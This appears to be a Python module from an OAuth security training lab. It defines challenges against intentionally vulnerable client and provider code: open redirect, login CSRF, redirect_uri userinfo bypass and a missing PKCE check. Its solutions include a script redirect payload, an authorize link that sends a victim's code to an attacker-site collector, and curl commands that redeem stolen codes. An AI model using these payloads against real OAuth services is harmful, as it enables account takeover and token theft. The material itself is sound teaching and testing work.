"""The OAuth lab's and the provider's challenges, against the naive client and the naive provider.

The victim is alice, signed in at the provider (its real sign-in page) in a browser of her own
(victim.py; her steps are oauth_victim.py); she allows whatever the naive twin's consent page asks. The naive
client is vulnerable/naive_oauth.py, in this app; the naive provider is provider/naive_provider.py,
in the provider's process, which cannot see this app's database. So every goal is judged here:
in the victim's own browser (her hops, whom the naive client believes in it), or where the naive
client uses what the student brings (its callback, the notes app's backend).

Each last step sends the same attack to the real code: the real client (in-process, real.send)
or the real provider, over HTTP as a browser or a client would (oauth_steps.py).
"""

from . import oauth_steps
from .catalog import register
from .detect import judge, victim_of
from .oauth_victim import (
    MOBILE_CLIENT_ID,
    NAIVE_CALLBACK,
    NAIVE_PROTECTED,
    alice_signs_in_at_the_provider,
    codes_in,
    her_codes_leak,
    leaked_to,
    redirects_from,
    same_origin,
    she_allows,
    the_notes_app_signs_her_in,
)
from .victim import Scenario

EXPLOIT_PAGE = (
    "A page of yours on the attacker's exploit server (`/exploit` on the attacker's site): its address is the "
    "link the victim opens."
)


# --- The naive client follows `next` anywhere ------------------------------------------------


def sent_off_site(victim):
    """The naive callback sent her browser to the attacker's site, after a genuine sign-in."""
    for _hop, target in redirects_from(victim, NAIVE_CALLBACK):
        if same_origin(target, victim.config["ATTACKER_URL"]):
            return target
    return None


register(
    id="oauth-open-redirect",
    lab="oauth",
    title="Send alice through the sign-in to your site",
    level="apprentice",
    goal=(
        "alice is signed in at the provider. Send her a link that takes her through the naive client's sign-in "
        "and lands her on the attacker's site: the naive client's own callback, right after she signed in, "
        "redirects her browser there. A phishing page on that site would now look like the next step."
    ),
    send=(
        "A link for the victim: to the app (`/vulnerable/oauth/...`) or to a page of yours on the attacker's site.",
        "`GET /vulnerable/oauth/login`: the naive client's sign-in, which takes a parameter saying where to go "
        "afterwards.",
    ),
    hints=(
        "Open `/vulnerable/oauth/login?next=/oauth/` yourself, sign in at the provider, and watch the hops in "
        "DevTools (Network, Preserve log): where does the naive callback send you once you are signed in?",
        "The naive login keeps `next` as given, and the callback redirects to it after the sign-in, whatever site "
        "it names.",
        "Send the victim `/vulnerable/oauth/login?next=` with the address of the attacker's site (the whole URL, "
        "URL-encoded).",
    ),
    solution=(
        "The link: `http://localhost:8000/vulnerable/oauth/login?next=http%3A%2F%2Fattacker.localhost%3A8003%2F` "
        "(the app's own address, so it looks trustworthy).",
        "alice's browser goes to the naive provider, where she is already signed in; she allows the app; the "
        "provider sends her back to the naive callback with a code.",
        "The callback signs her in to the naive client and answers `302 Location: http://attacker.localhost:8003/`: "
        "the visit's hops show it.",
    ),
    lesson=(
        "The real client keeps `next` only if it is a path on this site (OC-5, `is_safe_redirect`): a full URL, "
        "`//host`, a backslash or a tab is dropped when the sign-in starts, and after the callback the browser goes "
        "to the dance page, never to another site."
    ),
    refused_by=("security.py", "is_safe_redirect"),
    real=oauth_steps.real_login_with_next,
    victim=Scenario(
        story=(
            "alice is signed in at the provider in her own browser. She opens your link and, when the naive "
            "provider asks whether the Auth Lab app may use her account, she presses Allow."
        ),
        prepare=alice_signs_in_at_the_provider,
        after=she_allows,
        check=sent_off_site,
        link_origins=("APP_URL", "ATTACKER_URL"),
    ),
)


# --- Login CSRF: the naive callback takes anybody's code ---------------------------------------


def she_is_bob_at_the_naive_client(victim):
    """The naive client, in her browser, believes bob, after a callback her browser opened."""
    codes = [code for hop, _target in redirects_from(victim, NAIVE_CALLBACK) for code in codes_in(hop["url"])]
    if not codes:
        return None
    # Asked as she would ask: her browser opens the naive client's page, with her cookies.
    answer = victim.goto(victim.url("APP_URL", NAIVE_PROTECTED))
    believed = answer.json().get("user") if answer is not None and answer.status == 200 else None
    return codes[-1] if believed == "bob" else None


register(
    id="oauth-login-csrf",
    lab="oauth",
    title="Sign alice in to the naive client as you",
    level="practitioner",
    goal=(
        "Log alice into YOUR account at the naive client: after she opens your page, the naive client in her "
        "browser (`GET /vulnerable/oauth/protected`) believes she is bob. Whatever she stores there next, you can "
        "read."
    ),
    send=(
        "`GET /vulnerable/oauth/login`, in your own browser: the naive sign-in, as bob (bob / thebuilder at the "
        "provider).",
        EXPLOIT_PAGE,
        "`GET /vulnerable/oauth/callback?code=...`: the naive client's callback.",
    ),
    hints=(
        "What does the naive callback check before it exchanges a code? Compare its address with the real "
        "client's callback (`/oauth/callback`): one parameter is missing.",
        "Without `state`, the callback cannot tell a sign-in its browser started from one started elsewhere. Start "
        "the naive sign-in yourself, as bob, and stop at the callback: its address carries a code for bob.",
        "Keep that callback address (DevTools, Network, Preserve log: the provider's `302` names it), and make a "
        "page on the exploit server that sends alice's browser there, as a top-level navigation.",
    ),
    solution=(
        "In your browser, open `/vulnerable/oauth/login`, sign in at the provider as bob and press Allow. In "
        "DevTools' network log, copy the `Location` of the provider's `302`: "
        "`http://localhost:8000/vulnerable/oauth/callback?code=...` (the naive client never uses a code up, so it "
        "does not matter that your browser followed it).",
        'On the exploit server, store `<script>location = "http://localhost:8000/vulnerable/oauth/callback?code='
        "...\"</script>` with bob's code, and send the victim its address.",
        "Her browser opens the callback; the naive client exchanges bob's code and believes her browser is bob's.",
    ),
    lesson=(
        "The real callback first checks `state`: it must be the one this browser session sent, and it is used up "
        "(OC-2). Her session started no sign-in, so bob's callback, opened in her browser, is refused (400) before "
        "the code is even looked at, and she stays as she was."
    ),
    refused_by=("blueprints/oauth/flow.py", "check_state"),
    real=oauth_steps.real_callback_with,
    victim=Scenario(
        story=(
            "alice is signed in at the provider in her own browser (as herself). She opens your link and stays on "
            "its page a few seconds; if the naive provider asks her anything, she presses Allow. Then the lab asks "
            "the naive client, in her browser, whom it believes."
        ),
        prepare=alice_signs_in_at_the_provider,
        after=she_allows,
        check=she_is_bob_at_the_naive_client,
    ),
)


# --- The naive provider's prefix-matched redirect_uri -------------------------------------------

LAX = "provider-lax-redirect-uri"


register(
    id=LAX,
    lab="provider",
    title="Steal alice's code through a lax redirect_uri",
    level="practitioner",
    goal=(
        "Make the naive provider send alice's authorization code to a collector of yours on the attacker's site, "
        "then redeem it: the naive client's callback, in YOUR browser, signs you in as alice with her code."
    ),
    send=(
        "A link for the victim: the naive provider's authorization endpoint, `/naive/authorize` on the provider "
        "(`response_type`, `client_id`, `redirect_uri`, `scope`).",
        "`/collect/<id>` on the attacker's site: it logs every request it gets (store a page on `/exploit` for an "
        "id, and read the log in its editor).",
        "`GET /vulnerable/oauth/callback?code=...`: the naive client's callback, in your browser.",
    ),
    hints=(
        "Start the naive sign-in (`/vulnerable/oauth/login`) and read the provider's address it sends you to: "
        "`client_id` and `redirect_uri` are all a code needs to know where to go.",
        "The naive provider accepts any `redirect_uri` that merely starts with the client's origin, "
        "`http://localhost:8000`, compared as text. In a URL, what comes before an `@` is a user name, not the host.",
        "`redirect_uri=http://localhost:8000@attacker.localhost:8003/collect/<your id>`: the browser goes to the "
        "host after the `@`. Send the victim that authorization link; the code arrives in your collector's log.",
    ),
    solution=(
        "On the attacker's site, store any page at `/exploit` and note its id.",
        "The link, on the provider: `http://127.0.0.1:8001/naive/authorize?response_type=code&client_id=authlab-app"
        "&scope=openid%20profile&redirect_uri=http%3A%2F%2Flocalhost%3A8000%40attacker.localhost%3A8003%2Fcollect"
        "%2F<id>`.",
        "She allows; her browser goes to `attacker.localhost:8003/collect/<id>?code=...`. Read the code in the "
        "editor's log (`/exploit?id=<id>`).",
        "In your own browser, open `http://localhost:8000/vulnerable/oauth/callback?code=<her code>`: the naive "
        "client exchanges it and believes you are alice.",
    ),
    lesson=(
        "The real provider compares `redirect_uri` with each registered one character for character (AS-1), "
        "before it shows any page: the userinfo trick, a longer path or another port is an error page at the "
        "provider (400), and the browser is never redirected, so no code is issued at all."
    ),
    refused_by=("provider/models.py", "Client.check_redirect_uri"),
    real=oauth_steps.real_authorize_with,
    victim=Scenario(
        story=(
            "alice is signed in at the provider in her own browser. She opens your link and, when the naive "
            "provider asks whether the Auth Lab app may use her account, she presses Allow without reading the "
            "address it will send her to."
        ),
        prepare=alice_signs_in_at_the_provider,
        after=her_codes_leak,
        link_origins=("PROVIDER_URL", "ATTACKER_URL"),
    ),
)


@judge("naive_oauth.callback", LAX)
def redeemed_her_leaked_code(player, code, identity):
    """Solved when the naive callback believes alice on a code this player's victim leaked to the attacker."""
    if player is None or identity.get("name") != "alice":
        return None
    return leaked_to(player, code, LAX)


# --- The naive provider's optional PKCE, for a public client ------------------------------------


register(
    id="provider-no-pkce",
    lab="provider",
    title="Use a code intercepted without PKCE",
    level="expert",
    goal=(
        "alice signs in to the notes app on her phone, a public client of the naive provider, and a malicious app "
        "on the same phone catches the redirect with her code. Be that app: redeem her code and sign in to the "
        "notes app's backend (`POST /vulnerable/oauth/mobile/signin`) as alice, with the id_token her code bought."
    ),
    send=(
        "`POST /naive/token` on the provider: the naive token endpoint (form fields, as in RFC 6749 §4.1.3).",
        '`POST /vulnerable/oauth/mobile/signin` with JSON `{"id_token": "..."}`: the notes app\'s backend.',
    ),
    hints=(
        "Let the victim sign in, then read the visit's hops: the provider's last answer is a redirect to the notes "
        "app's scheme, `com.authlab.notes:`, and its `Location` is what the malicious app caught.",
        "The notes app is a public client: it has no secret, so the token endpoint knows it only by its "
        "`client_id`. Its authorization request (the first hop) sent no `code_challenge`, and the naive provider "
        "did not insist.",
        "`POST /naive/token` with `grant_type=authorization_code`, her `code`, `client_id=authlab-notes-mobile` and "
        "the same `redirect_uri`, and no `code_verifier`; send the `id_token` of the answer to the backend.",
    ),
    solution=(
        'Press "Let the victim sign in" and copy the code from the last hop: `Location: '
        "com.authlab.notes:/oauth2redirect?code=...`.",
        "`curl -d grant_type=authorization_code -d code=<her code> -d client_id=authlab-notes-mobile -d "
        "redirect_uri=com.authlab.notes:/oauth2redirect http://127.0.0.1:8001/naive/token`: tokens, an id_token "
        "among them.",
        "`curl -H 'Content-Type: application/json' -H 'Cookie: lab_player=...' -d '{\"id_token\": \"<it>\"}' "
        'http://localhost:8000/vulnerable/oauth/mobile/signin` answers `"user": "alice"`.',
    ),
    lesson=(
        "The real provider requires PKCE with S256 from every client (AS-2): an authorization request without "
        "`code_challenge` is refused before any code exists, and a code redeemed without the `code_verifier` only "
        "the app that asked for it holds is refused at `/token` (400). A caught code is worthless. The real attempt "
        "uses the real provider's public client, the SPA lab's browser app."
    ),
    refused_by=("provider/grants.py", "S256CodeChallenge"),
    real=oauth_steps.real_public_client_without_verifier,
    victim=Scenario(
        story=(
            "alice signs in at the provider, then signs in to the notes app on her phone, which sends her to the "
            "naive provider and is sent back her code on `com.authlab.notes:/oauth2redirect`. A malicious app on "
            "her phone registered the same scheme and caught that redirect: the visit's hops below show what it "
            "caught. She opens no link of yours."
        ),
        prepare=alice_signs_in_at_the_provider,
        after=the_notes_app_signs_her_in,
        needs_link=False,
    ),
)


@judge("naive_oauth.mobile_signin", "provider-no-pkce")
def redeemed_her_caught_code(player, claims):
    """Solved when the backend signed alice in with an id_token bought with the code this player's victim lost."""
    audience = claims.get("aud")
    audiences = audience if isinstance(audience, list) else [audience]
    if player is None or claims.get("preferred_username") != "alice" or MOBILE_CLIENT_ID not in audiences:
        return None
    caught = claims.get("c_hash")
    return f"alice's id_token for the notes app, c_hash {caught}" if victim_of("c_hash", caught) == player else None
